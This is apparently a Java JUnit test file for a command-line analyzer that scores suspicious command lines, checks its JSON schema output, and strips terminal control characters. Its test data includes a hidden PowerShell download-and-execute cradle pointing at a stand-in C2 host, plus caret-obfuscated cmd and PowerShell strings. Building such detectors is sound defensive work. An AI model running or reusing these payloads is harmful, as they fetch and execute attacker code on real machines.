package seldom.cli;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.networknt.schema.Schema;
import com.networknt.schema.SchemaRegistry;
import com.networknt.schema.SpecificationVersion;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.PrintStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.parallel.Isolated;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

@Isolated
class AnalyzeCommandTest {
  private static final JsonMapper JSON = JsonMapper.shared();
  private static final String CRADLE =
      "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://c2.example.com/a')\"";

  private static String run(String in, String... args) {
    PrintStream out = System.out;
    InputStream standard = System.in;
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    System.setOut(new PrintStream(bytes, true, UTF_8));
    System.setIn(new ByteArrayInputStream(in.getBytes(UTF_8)));
    try {
      assertThat(Main.line().execute(args)).isZero();
    } finally {
      System.setOut(out);
      System.setIn(standard);
    }
    return bytes.toString(UTF_8);
  }

  private static Schema schema() throws IOException {
    Path file =
        Path.of(System.getProperty("seldom.root", ".."))
            .resolve("content/schemas/command-1.schema.json");
    return SchemaRegistry.withDefaultDialect(SpecificationVersion.DRAFT_2020_12)
        .getSchema(JSON.readTree(Files.readString(file)));
  }

  @Test
  void everyLineOfStandardInputGivesOneObjectOfTheSchema() throws IOException {
    String in = CRADLE + "\nwhoami\n\n" + "tool \u202e\"\\\n" + "c^m^d /c p^i^n^g 8.8.8.8\n";
    List<String> lines = run(in, "analyze-command", "--json", "-").lines().toList();
    assertThat(lines).hasSize(5);
    for (String line : lines) {
      JsonNode node = JSON.readTree(line);
      assertThat(schema().validate(node)).as(line).isEmpty();
      for (String name : node.propertyNames()) {
        assertThat(schema().validate(((ObjectNode) node.deepCopy()).without(name)))
            .as(name)
            .isNotEmpty();
      }
    }
    JsonNode cradle = JSON.readTree(lines.getFirst());
    assertThat(cradle.get("band").asString()).isEqualTo("Critical");
    assertThat(cradle.get("indicators").toString()).contains("http://c2.example.com/a");
    JsonNode last = JSON.readTree(lines.getLast());
    assertThat(last.get("layers").get(1).get("text").asString()).isEqualTo("cmd /c ping 8.8.8.8");
  }

  @Test
  void theLegacyScoreIsTheWholeNumberThatIsShown() {
    JsonNode node = JSON.readTree(run("", "analyze-command", "--json", "--legacy", "psexec -x"));
    assertThat(node.get("score").toString()).isEqualTo("12");
    assertThat(node.get("band").asString()).isEqualTo("Low");
  }

  @Test
  void peopleSeeLayersPlacesAndTheSumOfTheScore() {
    String text = run("", "analyze-command", "cmd /c p^o^w^ershell -nop -c iex $x");
    assertThat(text)
        .contains("layer 1 of layer 0")
        .contains("carets removed")
        .contains("~~~")
        .contains("+30  download-and-run: Runs text as code")
        .contains("score: ");
  }

  @Test
  void whatTheCommandLineHoldsCannotSteerTheTerminal() {
    String text = run("", "analyze-command", "x \u001b[2J\u202e\u0007");
    assertThat(text).doesNotContain("\u001b").doesNotContain("\u202e").doesNotContain("\u0007");
  }
}
